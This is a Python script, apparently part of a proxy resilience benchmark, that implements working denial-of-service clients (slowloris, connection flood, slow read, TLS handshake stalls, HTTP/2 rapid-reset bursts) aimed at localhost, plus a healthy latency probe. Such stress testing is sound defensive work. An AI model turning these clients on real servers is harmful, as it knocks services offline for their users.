#!/usr/bin/env python3
"""Hostile clients for bench/resilience.sh, and the healthy client measured beside them.

    attack.py healthy PORT SECONDS          GET / on a fresh connection every 10 ms; prints
                                             {"requests", "ok", "p99_ms"} as JSON
    attack.py slowloris PORT N SECONDS      N connections sending one header byte a second
    attack.py flood PORT N SECONDS SRC...   N connections opened as fast as possible from the
                                             source addresses given in turn, then held idle
    attack.py slowread PORT SECONDS         GET /huge, reading 16 KiB every 100 ms
    attack.py tlsstall PORT N SECONDS       N connections that stop inside their ClientHello
    attack.py h2reset PORT SECONDS          HTTP/2 HEADERS + RST_STREAM bursts, reconnecting
                                             whenever the proxy closes the connection
    attack.py hugeserver PORT BYTES         a backend answering every request with BYTES of body

Each attack prints {"opened", "closed_by_proxy"} as JSON when it ends.
"""
import asyncio
import json
import resource
import socket
import sys
import time

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
HOST = "127.0.0.1"


async def healthy(port: int, seconds: float) -> dict:
    latencies, requests = [], 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        requests += 1
        started = time.monotonic()
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, port), 5)
            writer.write(b"GET / HTTP/1.1\r\nHost: healthy\r\nConnection: close\r\n\r\n")
            reply = await asyncio.wait_for(reader.read(), 5)
            writer.close()
            if reply.startswith(b"HTTP/1.1 200"):
                latencies.append(time.monotonic() - started)
        except (OSError, asyncio.TimeoutError):
            pass
        await asyncio.sleep(0.01)
    latencies.sort()
    p99 = latencies[min(len(latencies) - 1, len(latencies) * 99 // 100)] if latencies else 0
    return {"requests": requests, "ok": len(latencies), "p99_ms": round(p99 * 1000, 2)}


async def hold(reader: asyncio.StreamReader, until: float) -> bool:
    """Waits for the proxy to close the connection; True if it did before `until`."""
    try:
        await asyncio.wait_for(reader.read(), max(0.0, until - time.monotonic()))
        return True
    except (asyncio.TimeoutError, OSError):
        return False


async def slowloris(port: int, n: int, seconds: float) -> dict:
    end = time.monotonic() + seconds
    closed = 0

    async def one() -> None:
        nonlocal closed
        try:
            reader, writer = await asyncio.open_connection(HOST, port)
            writer.write(b"GET / HTTP/1.1\r\nHost: a\r\nX-a: ")
            while time.monotonic() < end:
                await asyncio.sleep(1)
                writer.write(b"a")
                await writer.drain()
                if reader.at_eof():
                    closed += 1
                    return
            writer.close()
        except OSError:
            closed += 1

    await asyncio.gather(*(one() for _ in range(n)))
    return {"opened": n, "closed_by_proxy": closed}


async def flood(port: int, n: int, seconds: float, sources: list) -> dict:
    end = time.monotonic() + seconds
    opened, streams = 0, []
    for i in range(n):
        sock = socket.socket()
        sock.setblocking(False)
        try:
            sock.bind((sources[i % len(sources)], 0))
            await asyncio.wait_for(asyncio.get_running_loop().sock_connect(sock, (HOST, port)), 2)
            reader, writer = await asyncio.open_connection(sock=sock)
            streams.append(reader)
            opened += 1
        except (OSError, asyncio.TimeoutError):
            sock.close()
    results = await asyncio.gather(*(hold(r, end) for r in streams))
    return {"opened": opened, "closed_by_proxy": sum(results)}


async def slowread(port: int, seconds: float) -> dict:
    end = time.monotonic() + seconds
    reader, writer = await asyncio.open_connection(HOST, port, limit=16384)
    writer.write(b"GET /huge HTTP/1.1\r\nHost: a\r\n\r\n")
    got = 0
    while time.monotonic() < end:
        chunk = await reader.read(16384)
        if not chunk:
            break
        got += len(chunk)
        await asyncio.sleep(0.1)
    writer.close()
    return {"opened": 1, "read_bytes": got, "closed_by_proxy": 0}


async def tlsstall(port: int, n: int, seconds: float) -> dict:
    end = time.monotonic() + seconds

    async def one() -> bool:
        try:
            reader, writer = await asyncio.open_connection(HOST, port)
            writer.write(bytes([0x16, 0x03, 0x01, 0x02, 0x00, 0x01]))
            return await hold(reader, end)
        except OSError:
            return True

    results = await asyncio.gather(*(one() for _ in range(n)))
    return {"opened": n, "closed_by_proxy": sum(results)}


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name: bytes, value: bytes) -> bytes:
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


async def h2reset(port: int, seconds: float) -> dict:
    end = time.monotonic() + seconds
    block = b"".join(
        literal(n, v) for n, v in [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"a"), (b":path", b"/")]
    )
    connections, closed = 0, 0
    while time.monotonic() < end:
        try:
            reader, writer = await asyncio.open_connection(HOST, port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        connections += 1
        burst = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", frame(4, 0, 0, b"")]
        for i in range(1000):
            sid = 2 * i + 1
            burst.append(frame(1, 0x5, sid, block))
            burst.append(frame(3, 0, sid, (8).to_bytes(4, "big")))
        try:
            writer.write(b"".join(burst))
            await writer.drain()
            if await hold(reader, min(end, time.monotonic() + 2)):
                closed += 1
        except OSError:
            closed += 1
        writer.close()
    return {"opened": connections, "closed_by_proxy": closed}


async def hugeserver(port: int, size: int) -> None:
    block = b"x" * (1 << 20)

    async def answer(reader, writer) -> None:
        try:
            await reader.readuntil(b"\r\n\r\n")
            writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n" % size)
            sent = 0
            while sent < size:
                part = block[: min(len(block), size - sent)]
                writer.write(part)
                await writer.drain()
                sent += len(part)
        except (OSError, asyncio.IncompleteReadError):
            pass
        writer.close()

    server = await asyncio.start_server(answer, HOST, port)
    async with server:
        await server.serve_forever()


def main() -> None:
    mode, port = sys.argv[1], int(sys.argv[2])
    args = sys.argv[3:]
    if mode == "healthy":
        result = healthy(port, float(args[0]))
    elif mode == "slowloris":
        result = slowloris(port, int(args[0]), float(args[1]))
    elif mode == "flood":
        result = flood(port, int(args[0]), float(args[1]), args[2:] or [HOST])
    elif mode == "slowread":
        result = slowread(port, float(args[0]))
    elif mode == "tlsstall":
        result = tlsstall(port, int(args[0]), float(args[1]))
    elif mode == "h2reset":
        result = h2reset(port, float(args[0]))
    elif mode == "hugeserver":
        asyncio.run(hugeserver(port, int(args[0])))
        return
    else:
        sys.exit(f"unknown mode {mode}")
    print(json.dumps(asyncio.run(result)))


if __name__ == "__main__":
    main()
